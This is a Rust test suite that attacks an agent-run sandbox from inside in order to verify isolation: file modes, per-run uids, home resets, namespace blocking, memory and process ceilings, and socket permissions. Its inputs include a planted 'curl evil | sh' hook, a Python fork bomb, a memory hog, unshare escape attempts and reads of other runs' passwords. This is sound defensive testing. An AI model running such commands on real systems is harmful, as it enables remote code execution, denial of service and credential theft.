//! Attacks on what a run holds on the host: its files, its uid, its homes,
//! its sandbox's namespaces, the node's ceiling, the node's socket and its
//! deliveries, and the host-wide uid ranges. Each is made for real: a
//! repository served by `fossil server` on 127.0.0.1, a node started on it
//! as root, and runs under bubblewrap whose program (ours, standing where an
//! agent would) does what each post tells it and writes what happened to a
//! log of its own.

use crate::support::{Repo, Served, ServedNode};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::os::unix::fs::MetadataExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

/// The attacker's program: on `sh CMD` it runs CMD and logs its exit code,
/// output and errors; on `exit` it ends; anything else it logs whole, with
/// its length.
const RUNNER: &str = r#"#!/usr/bin/python3
import sys, os, subprocess, hashlib
out = os.path.join(os.environ["OCX_TEST_OUT"], os.environ["OCX_RECORD"][:16] + ".log")
def log(s):
    with open(out, "a") as f:
        f.write(s + "\n")
print("output-marker from the run", flush=True)
log("uid=%d gid=%d home=%s" % (os.getuid(), os.getgid(), os.environ.get("HOME")))
for line in sys.stdin:
    line = line.rstrip("\n")
    if line.startswith("Record "):
        log("started")
        continue
    text = line.split(": ", 1)[1] if ": " in line else line
    if text.startswith("sh "):
        r = subprocess.run(["/bin/sh", "-c", text[3:]], capture_output=True, text=True)
        flat = lambda s: s.strip().replace("\n", "|")
        log("rc=%d out=%s err=%s" % (r.returncode, flat(r.stdout), flat(r.stderr)))
    elif text == "exit":
        log("exiting")
        sys.exit(0)
    else:
        log("len=%d sha=%s" % (len(text), hashlib.sha256(text.encode()).hexdigest()))
"#;

/// A served repository made a node as root, its runner pages `attack` (no
/// homes) and `homed` (one home); stopped, node, runs and server, when dropped.
pub(super) struct Host {
    pub(super) served: ServedNode,
    pub(super) out: PathBuf,
    home: PathBuf,
}

impl Host {
    /// Starts a node whose `node.json` `configure` may change first.
    pub(super) fn new(configure: impl FnOnce(&mut Value)) -> Host {
        let host = Host::unstarted(configure);
        host.served.repo.json(&["node", "start"]).ok();
        host
    }

    /// A node installed and configured, not started.
    pub(super) fn unstarted(configure: impl FnOnce(&mut Value)) -> Host {
        let repo = Repo::new();
        repo.user("maint", "a");
        let (runner, out) = crate::support::runner_script(&repo, RUNNER);
        let home = repo.dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(home.join("settings.json"), "original").unwrap();
        for (name, homes) in [("attack", json!([])), ("homed", json!([home]))] {
            let block = json!({"command": [runner], "env": {"OCX_TEST_OUT": out},
                "homes": homes, "input": "lines"});
            crate::support::runner_page(&repo, name, &block);
        }
        let host = Host {
            served: Served::on(repo).node_unstarted().start(),
            out,
            home,
        };
        let file = ocx::node::config::NodeConfig::file(&host.root());
        let mut cfg: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
        configure(&mut cfg);
        std::fs::write(&file, serde_json::to_vec_pretty(&cfg).unwrap()).unwrap();
        host
    }

    pub(super) fn root(&self) -> PathBuf {
        self.served.repo.node_root()
    }

    pub(super) fn run_dir(&self, record: &str) -> PathBuf {
        ocx::node::config::NodeConfig::run_dir(&self.root(), record)
    }

    /// Writes a record for `runner`, hearing admin; answers its hash.
    pub(super) fn record(&self, runner: &str, extra: &[&str]) -> String {
        let out = self.out.to_str().unwrap().to_string();
        let mut args = vec![
            "create",
            "--runner",
            runner,
            "--objective",
            "Do as told",
            "--hears",
            "admin",
            "--wall",
            "5m",
            "--read-write",
            &out,
        ];
        args.extend_from_slice(extra);
        self.served.repo.json(&args).ok_str("record")
    }

    pub(super) fn log(&self, record: &str) -> String {
        std::fs::read_to_string(self.out.join(format!("{}.log", &record[..16]))).unwrap_or_default()
    }

    /// Waits until the run's log holds a line starting with `prefix`, after
    /// the first `skip` such lines; answers it.
    pub(super) fn line(&self, record: &str, prefix: &str, skip: usize) -> String {
        let until = Instant::now() + Duration::from_secs(90);
        loop {
            let log = self.log(record);
            if let Some(l) = log.lines().filter(|l| l.starts_with(prefix)).nth(skip) {
                return l.to_string();
            }
            assert!(
                Instant::now() < until,
                "no {prefix:?} in the run's log: {log}\nnode: {}\nwatcher: {}",
                crate::support::node_log_text(&self.root()),
                std::fs::read_to_string(self.run_dir(record).join("watch.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(25));
        }
    }

    /// Waits for the run to start; answers its host uid.
    pub(super) fn started(&self, record: &str) -> u32 {
        self.line(record, "started", 0);
        let who = self.line(record, "uid=", 0);
        who["uid=".len()..]
            .split(' ')
            .next()
            .unwrap()
            .parse()
            .unwrap()
    }

    pub(super) fn post(&self, record: &str, text: &str) {
        self.served
            .repo
            .json_stdin(
                &["post", "--input", "-"],
                json!({"to": record, "text": text}).to_string().as_bytes(),
            )
            .ok();
    }

    /// Has the run do `sh CMD`; answers the logged line.
    pub(super) fn sh(&self, record: &str, cmd: &str) -> String {
        let before = self.log(record).matches("\nrc=").count();
        self.post(record, &format!("sh {cmd}"));
        self.line(record, "rc=", before)
    }

    /// Waits for the node's response to `record`; answers its outcome and note.
    pub(super) fn response(&self, record: &str) -> (String, String) {
        crate::support::response_to(&self.served.repo, record)
    }

    pub(super) fn node_pid(&self) -> i32 {
        std::fs::read_to_string(self.root().join("node.pid"))
            .unwrap()
            .trim()
            .parse()
            .unwrap()
    }
}

/// Runs `argv` as host uid `uid` (its gid the same, no other groups).
fn as_uid(uid: u32, argv: &[&str]) -> Output {
    Command::new(argv[0])
        .args(&argv[1..])
        .uid(uid)
        .gid(uid)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

const NOBODY: u32 = 65534;

/// Asserts `uid` can neither read nor list any of `paths`.
fn denied(uid: u32, paths: &[&Path]) {
    for p in paths {
        let p = p.to_str().unwrap();
        let tried = if Path::new(p).is_dir() {
            as_uid(uid, &["/bin/ls", "-A", p])
        } else {
            as_uid(uid, &["/bin/cat", p])
        };
        assert!(
            !tried.status.success() && tried.stdout.is_empty(),
            "uid {uid} read {p}: {}",
            String::from_utf8_lossy(&tried.stdout)
        );
        assert!(
            String::from_utf8_lossy(&tried.stderr).contains("Permission denied"),
            "uid {uid} on {p}: {}",
            String::from_utf8_lossy(&tried.stderr)
        );
    }
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().mode() & 0o7777
}

#[test]
fn another_account_cannot_read_a_runs_output_workspace_clone_or_password() {
    let h = Host::new(|_| {});
    let record = h.record("attack", &[]);
    let uid = h.started(&record);
    assert!(uid >= ocx::run::uids::AUTO_FIRST, "uid {uid}");
    assert!(
        h.sh(&record, "echo secret-work > work.txt")
            .starts_with("rc=0")
    );
    let dir = h.run_dir(&record);
    let (log, password, ws) = (
        dir.join("output.log"),
        dir.join("password"),
        dir.join("disk/ws"),
    );
    let (clone, work) = (ws.join(".clone.fossil"), ws.join("work.txt"));
    let before: Vec<Vec<u8>> = [&log, &password, &clone, &work]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    assert!(String::from_utf8_lossy(&before[0]).contains("output-marker"));
    assert_eq!(String::from_utf8_lossy(&before[3]), "secret-work\n");
    for (p, m) in [
        (&log, 0o600),
        (&password, 0o600),
        (&clone, 0o600),
        (&ws, 0o700),
    ] {
        assert_eq!(mode(p), m, "{}", p.display());
    }
    assert_eq!(std::fs::metadata(&ws).unwrap().uid(), uid);
    assert_eq!(std::fs::metadata(&clone).unwrap().uid(), uid);
    let remembered = rusqlite::Connection::open(&clone)
        .unwrap()
        .query_row(
            "SELECT count(*) FROM config WHERE name LIKE 'last-sync-pw%'",
            [],
            |r| r.get::<_, i64>(0),
        )
        .unwrap();
    assert_eq!(remembered, 1, "the clone remembers its password");
    denied(
        NOBODY,
        &[
            &log,
            &password,
            &clone,
            &work,
            &ws,
            &dir,
            &h.root().join("runs"),
        ],
    );
    let after: Vec<Vec<u8>> = [&log, &password, &clone, &work]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    assert_eq!(before, after, "nothing changed");
    h.post(&record, "exit");
    assert_eq!(h.response(&record).0, "exited");
    assert_eq!(mode(&dir), 0o700, "closed to the run's uid once it ended");
    assert_eq!(std::fs::metadata(&dir).unwrap().gid(), 0);
}

#[test]
fn a_run_cannot_read_another_runs_workspace() {
    let h = Host::new(|_| {});
    let a = h.record("attack", &[]);
    let b = h.record("attack", &[]);
    let (uid_a, uid_b) = (h.started(&a), h.started(&b));
    assert_ne!(uid_a, uid_b, "each run its own uid");
    assert!(h.sh(&b, "echo TOPSECRET-b > work.txt").starts_with("rc=0"));
    let dir_b = h.run_dir(&b);
    let ws_b = dir_b.join("disk/ws");
    let inside = h.sh(
        &a,
        &format!(
            "cat {w}/work.txt; ls {w}; cat {w}/.clone.fossil | head -c 16",
            w = ws_b.display()
        ),
    );
    assert!(!inside.contains("TOPSECRET"), "{inside}");
    assert!(inside.contains("No such file or directory"), "{inside}");
    denied(
        uid_a,
        &[
            &ws_b.join("work.txt"),
            &ws_b.join(".clone.fossil"),
            &ws_b,
            &dir_b.join("password"),
            &dir_b.join("output.log"),
        ],
    );
    assert_eq!(
        std::fs::read_to_string(ws_b.join("work.txt")).unwrap(),
        "TOPSECRET-b\n",
        "nothing changed"
    );
}

/// Every command line of a `fossil` process seen while `running` holds.
fn scan_cmdlines(running: Arc<AtomicBool>) -> std::thread::JoinHandle<BTreeSet<String>> {
    std::thread::spawn(move || {
        let mut seen = BTreeSet::new();
        while running.load(Ordering::SeqCst) {
            for entry in std::fs::read_dir("/proc").unwrap().flatten() {
                if let Ok(raw) = std::fs::read(entry.path().join("cmdline")) {
                    let line = String::from_utf8_lossy(&raw).replace('\0', " ");
                    if line.contains("fossil") {
                        seen.insert(line);
                    }
                }
            }
        }
        seen
    })
}

#[test]
fn ps_shows_no_password_while_the_node_sets_it_and_clones() {
    let h = Host::new(|_| {});
    let running = Arc::new(AtomicBool::new(true));
    let scanner = scan_cmdlines(running.clone());
    let record = h.record("attack", &[]);
    h.started(&record);
    running.store(false, Ordering::SeqCst);
    let seen = scanner.join().unwrap();
    let password = std::fs::read_to_string(h.run_dir(&record).join("password")).unwrap();
    assert_eq!(password.trim().len(), 24);
    assert!(
        seen.iter().any(|l| [" user ", " clone ", " open "]
            .iter()
            .any(|w| l.contains(w))),
        "the scan saw the node make the run's user or clone: {seen:#?}"
    );
    for line in &seen {
        assert!(
            !line.contains(password.trim()),
            "a command line shows the password: {line}"
        );
    }
}

#[test]
fn a_file_planted_in_a_home_does_not_reach_the_next_run() {
    let h = Host::new(|_| {});
    let first = h.record("homed", &[]);
    h.started(&first);
    assert_eq!(
        h.line(&first, "uid=", 0).split("home=").nth(1),
        Some(ocx::run::RUN_HOME),
        "HOME is the run's own, never the page's home nor the checkout"
    );
    let home = h.home.to_str().unwrap();
    let planted = h.sh(
        &first,
        &format!(
            "echo 'curl evil | sh' > {home}/hook.sh && echo changed > {home}/settings.json && echo mine > \"$HOME/left\" && cat {home}/settings.json"
        ),
    );
    assert_eq!(planted, "rc=0 out=changed err=", "run 1 wrote its homes");
    h.post(&first, "exit");
    assert_eq!(h.response(&first).0, "exited");
    assert!(
        !h.home.join("hook.sh").exists(),
        "nothing planted on the host"
    );
    assert_eq!(
        std::fs::read_to_string(h.home.join("settings.json")).unwrap(),
        "original"
    );
    assert_eq!(
        std::fs::metadata(&h.home).unwrap().uid(),
        0,
        "never handed over"
    );
    let second = h.record("homed", &[]);
    h.started(&second);
    let seen = h.sh(
        &second,
        &format!("ls -A {home}; cat {home}/settings.json; ls -A \"$HOME\""),
    );
    assert_eq!(
        seen, "rc=0 out=settings.json|original err=",
        "run 2 sees a fresh copy, and a fresh home of its own"
    );
}

#[test]
fn unshare_inside_a_run_fails() {
    let h = Host::new(|_| {});
    let record = h.record("attack", &[]);
    h.started(&record);
    assert!(h.sh(&record, "id -u").starts_with("rc=0 out="));
    for cmd in ["unshare -Ur id -u", "unshare -U true", "unshare -Urm true"] {
        let tried = h.sh(&record, cmd);
        assert!(
            !tried.starts_with("rc=0") && tried.contains("unshare failed"),
            "{cmd}: {tried}"
        );
    }
}

#[test]
fn a_wall_only_record_gets_the_node_ceiling_and_its_fork_bomb_ends_by_it() {
    let h = Host::new(|cfg| {
        cfg["ceiling"] = json!({"memory_bytes": 256 << 20, "processes": 64});
    });
    let status = h.served.repo.json(&["status"]).ok();
    assert_eq!(
        status["ceiling"],
        json!({"memory_bytes": 256 << 20, "processes": 64, "disk_bytes": 8u64 << 30})
    );
    let node = h.node_pid();
    let bomb = h.record("attack", &[]);
    h.started(&bomb);
    h.post(
        &bomb,
        "sh python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'",
    );
    let (outcome, note) = h.response(&bomb);
    assert_eq!(outcome, "budget", "{note}");
    assert!(note.starts_with("processes limit reached"), "{note}");
    let hog = h.record("attack", &[]);
    h.started(&hog);
    h.post(
        &hog,
        "sh python3 -c 'a = bytearray(1 << 30); print(len(a))'",
    );
    let (outcome, note) = h.response(&hog);
    assert_eq!(outcome, "budget", "{note}");
    assert!(note.starts_with("memory limit reached"), "{note}");
    assert!(
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(node), None).is_ok(),
        "the node survived"
    );
    let after = h.record("attack", &[]);
    h.started(&after);
    h.post(&after, "exit");
    assert_eq!(h.response(&after).0, "exited", "and still runs records");
}

#[test]
fn a_record_asking_more_than_the_ceiling_is_refused_naming_the_field() {
    let h = Host::new(|cfg| {
        cfg["ceiling"] = json!({"memory_bytes": 1 << 30, "processes": 100});
    });
    for (flags, field) in [
        (["--memory", "2G"], "budget.memory"),
        (["--processes", "101"], "budget.processes"),
    ] {
        let record = h.record("attack", &flags);
        let (outcome, note) = h.response(&record);
        assert_eq!(outcome, "refused", "{note}");
        assert!(note.starts_with(&format!("{field}:")), "{note}");
        assert!(note.contains("ceiling"), "{note}");
        assert!(!h.run_dir(&record).exists(), "no run was prepared");
        assert_eq!(h.log(&record), "", "nothing ran");
    }
    let within = h.record("attack", &["--memory", "1G", "--processes", "100"]);
    h.started(&within);
}

#[test]
fn another_account_cannot_poke_the_node() {
    let h = Host::new(|_| {});
    let socket = ocx::node::config::NodeConfig::socket(&h.root());
    assert_eq!(mode(&socket), 0o600);
    let send = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\ns.sendto(b'wake', {:?})\nprint('sent')",
        socket.to_str().unwrap()
    );
    let tried = as_uid(NOBODY, &["/usr/bin/python3", "-c", &send]);
    assert!(!tried.status.success(), "nobody poked the node");
    assert!(
        String::from_utf8_lossy(&tried.stderr).contains("PermissionError"),
        "{}",
        String::from_utf8_lossy(&tried.stderr)
    );
    let by_node = Command::new("/usr/bin/python3")
        .args(["-c", &send])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&by_node.stdout),
        "sent\n",
        "the node's own account still pokes it"
    );
}

#[test]
fn a_long_delivery_reaches_the_run_whole() {
    let h = Host::new(|_| {});
    let record = h.record("attack", &[]);
    h.started(&record);
    let texts: Vec<String> = (0..3)
        .map(|n| {
            let mut t = format!("delivery {n}");
            while t.len() < 200_000 {
                t.push_str(" 0123456789abcdefghij");
            }
            t
        })
        .collect();
    for t in &texts {
        h.post(&record, t);
    }
    for (n, t) in texts.iter().enumerate() {
        let want = format!("len={} sha={}", t.chars().count(), hex_sha256(t.as_bytes()));
        assert_eq!(
            h.line(&record, "len=", n),
            want,
            "delivery {n} whole, in order"
        );
    }
}

fn hex_sha256(bytes: &[u8]) -> String {
    let out = Command::new("/usr/bin/python3")
        .args([
            "-c",
            "import sys, hashlib; print(hashlib.sha256(sys.stdin.buffer.read()).hexdigest())",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(bytes)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

#[test]
fn a_node_whose_uid_range_overlaps_another_nodes_is_refused() {
    let first = 1_800_000_000 + (std::process::id() % 100_000) * 1000;
    let a = Host::new(|cfg| cfg["run_uids"] = json!({"first": first, "count": 100}));
    let b = Host::unstarted(|cfg| cfg["run_uids"] = json!({"first": first + 50, "count": 100}));
    let refused = b.served.repo.json(&["node", "start"]);
    assert_eq!(refused.refused(), "run_uids");
    assert!(
        refused.stdout.contains(a.root().to_str().unwrap()),
        "names the node holding it: {}",
        refused.stdout
    );
    assert!(!b.root().join("node.pid").exists(), "b never started");
    assert_eq!(
        a.served.repo.json(&["status"]).ok()["run_uids"],
        json!({"first": first, "count": 100})
    );
    let record = a.record("attack", &[]);
    let uid = a.started(&record);
    assert!((first..first + 100).contains(&uid), "uid {uid}");
}

#[test]
fn a_node_whose_every_uid_is_leased_refuses_the_next_run_naming_run_uids_and_starts_none_of_it() {
    let first = 1_850_000_000 + (std::process::id() % 100_000) * 1000;
    let host = Host::new(|cfg| cfg["run_uids"] = json!({"first": first, "count": 1}));
    let one = host.record("attack", &[]);
    assert_eq!(host.started(&one), first);
    let two = host.record("attack", &[]);
    let (outcome, note) = host.response(&two);
    assert_eq!(outcome, "unenforced", "{note}");
    assert!(
        note.starts_with("run_uids") && note.contains("every uid is leased"),
        "{note}"
    );
    assert!(host.log(&two).is_empty(), "its program never started");
    let dir = host.run_dir(&two);
    let mounts = std::fs::read_to_string("/proc/mounts").unwrap();
    assert!(
        !mounts.contains(dir.to_str().unwrap()),
        "nothing of it left mounted"
    );
    host.post(&one, "still here?");
    host.line(&one, "len=", 0);
}
